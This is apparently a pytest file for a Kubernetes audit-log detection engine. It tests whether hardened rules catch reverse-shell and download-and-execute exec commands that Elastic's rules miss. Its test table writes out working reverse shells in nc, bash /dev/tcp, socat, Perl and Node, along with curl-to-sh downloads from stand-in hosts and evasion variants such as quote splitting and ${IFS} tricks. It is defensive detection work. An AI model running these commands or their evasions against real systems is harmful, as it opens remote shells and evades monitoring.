"""Each blind spot of the Elastic rules listed in docs/detections.md, proven on a real exec.

For every entry the Elastic rule of the same intent stays silent (as it would in Elasticsearch),
the hardened rule fires, and its alert says ``elastic_parity = false``. The table is also the
source of the examples in docs/detections.md (a test checks that every entry is documented).
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest

from auditstream.detections.engine import Detector
from auditstream.detections.event.decode import events_from_json
from auditstream.detections.rule_hit import RuleHit
from auditstream.detections.ruleset.loader import load_rules
from devtools.traffic.synthetic import exec_audit_events

REVERSE_SHELL = "f1a2b3c4-d5e6-4789-a012-3456789abc01"
CURL_WGET = "c9d4e8f1-2a3b-4c5d-8e9f-0a1b2c3d4e5f"
REVERSE_SHELL_HARDENED = "c24fb8cd-0e36-4c03-9482-a5e10b6030e2"
DOWNLOAD_HARDENED = "c8fe29db-2c6c-45de-8a41-c7b9a1e61e0a"
TWIN = {REVERSE_SHELL_HARDENED: REVERSE_SHELL, DOWNLOAD_HARDENED: CURL_WGET}
DOC = Path(__file__).resolve().parents[2] / "docs" / "detections.md"
C2 = "203.0.113.9"


@dataclass(frozen=True)
class BlindSpot:
    key: str  # the anchor in docs/detections.md
    command: tuple[str, ...]
    hardened: str
    client: str = "kubectl"
    subresource: str = "exec"
    raw_query: str | None = None


SPOTS = [
    BlindSpot("javascript-order", ("sh", "-c", f"nc -e /bin/sh {C2} 4444"), REVERSE_SHELL_HARDENED,
              client="javascript"),
    BlindSpot("rancher-order", ("sh", "-c", "curl -fsSL https://evil.example/x.sh | sh"),
              DOWNLOAD_HARDENED, client="rancher"),
    BlindSpot("kubelet-proxy", ("bash", "-c", f"bash -i >& /dev/tcp/{C2}/4444 0>&1"),
              REVERSE_SHELL_HARDENED, subresource="proxy"),
    BlindSpot("newline-in-argument", ("sh", "-c", f"id\nbash -i >& /dev/tcp/{C2}/4444 0>&1"),
              REVERSE_SHELL_HARDENED),
    BlindSpot("ampersand-parameter-in-argument",
              ("sh", "-c", f"echo '&stdin=1'; bash -i >& /dev/tcp/{C2}/4444 0>&1"),
              REVERSE_SHELL_HARDENED),
    BlindSpot("malformed-pair-elsewhere", (), REVERSE_SHELL_HARDENED, client="raw",
              raw_query="command=nc&command=-e&command=%2Fbin%2Fsh&command=203.0.113.9"
                        "&command=4444&container=web&stdout=true&x=%zz"),
    BlindSpot("exclusion-anywhere-download",
              ("sh", "-c", "curl -fsSL https://evil.example/x.sh | sh # localhost"),
              DOWNLOAD_HARDENED),
    BlindSpot("exclusion-anywhere-reverse-shell",
              ("bash", "-c", f"bash -i >& /dev/tcp/{C2}/4444 0>&1 # /dev/tcp/localhost/8080"),
              REVERSE_SHELL_HARDENED),
    BlindSpot("uppercase-scheme", ("curl", "-o", "/tmp/x", "HTTPS://evil.example/x"),
              DOWNLOAD_HARDENED),
    BlindSpot("socat-uppercase-keywords", ("socat", f"TCP:{C2}:4444", "EXEC:/bin/sh"),
              REVERSE_SHELL_HARDENED),
    BlindSpot("shell-quoting", ("sh", "-c", f"n''c -e /bin/sh {C2} 4444"), REVERSE_SHELL_HARDENED),
    BlindSpot("ifs-expansion", ("sh", "-c", f"nc${{IFS}}-e${{IFS}}/bin/sh${{IFS}}{C2}${{IFS}}4444"),
              REVERSE_SHELL_HARDENED),
    BlindSpot("busybox-nc", ("busybox", "nc", C2, "4444", "-e", "/bin/sh"), REVERSE_SHELL_HARDENED),
    BlindSpot("telnet-through-shell",
              ("sh", "-c", f"telnet {C2} 4444 | /bin/sh | telnet {C2} 4445"),
              REVERSE_SHELL_HARDENED),
    BlindSpot("perl-socket",
              ("perl", "-e", f'use Socket;$i="{C2}";$p=4444;socket(S,PF_INET,SOCK_STREAM,'
                             'getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i))))'
                             '{open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'),
              REVERSE_SHELL_HARDENED),
    BlindSpot("node-net-socket",
              ("node", "-e", f'var n=require("net"),c=require("child_process"),s=new n.Socket();'
                             f's.connect(4444,"{C2}",function(){{var p=c.spawn("/bin/sh",[]);'
                             's.pipe(p.stdin);p.stdout.pipe(s);p.stderr.pipe(s);});'),
              REVERSE_SHELL_HARDENED),
]  # fmt: skip


@pytest.fixture(scope="module")
def detector() -> Detector:
    rules = load_rules()
    assert not rules.problems
    return Detector(rules.rules)


def hits_for(detector: Detector, spot: BlindSpot) -> dict[str, RuleHit]:
    (event,) = exec_audit_events(
        command=spot.command,
        client=spot.client,  # type: ignore[arg-type]
        subresource=spot.subresource,  # type: ignore[arg-type]
        raw_query=spot.raw_query,
        stages=("ResponseStarted",),
    )
    (decoded,) = events_from_json(event)
    return {hit.rule.rule_id: hit for hit in detector.detect(decoded)}


@pytest.mark.parametrize("spot", SPOTS, ids=[s.key for s in SPOTS])
def test_elastic_misses_and_hardened_fires(detector: Detector, spot: BlindSpot) -> None:
    hits = hits_for(detector, spot)
    assert TWIN[spot.hardened] not in hits, "the Elastic rule fired: not a blind spot"
    assert spot.hardened in hits
    hit = hits[spot.hardened]
    assert hit.elastic_parity is False
    assert hit.explanation is not None and hit.explanation.indicator
    assert hit.explanation.simple_command


def test_every_blind_spot_is_documented() -> None:
    text = DOC.read_text(encoding="utf-8")
    for spot in SPOTS:
        assert f"`{spot.key}`" in text, spot.key


def test_parity_is_true_where_both_fire(detector: Detector) -> None:
    spot = BlindSpot("both", ("bash", "-c", f"bash -i >& /dev/tcp/{C2}/4444 0>&1"),
                     REVERSE_SHELL_HARDENED)  # fmt: skip
    hits = hits_for(detector, spot)
    assert REVERSE_SHELL in hits
    assert hits[REVERSE_SHELL_HARDENED].elastic_parity is True
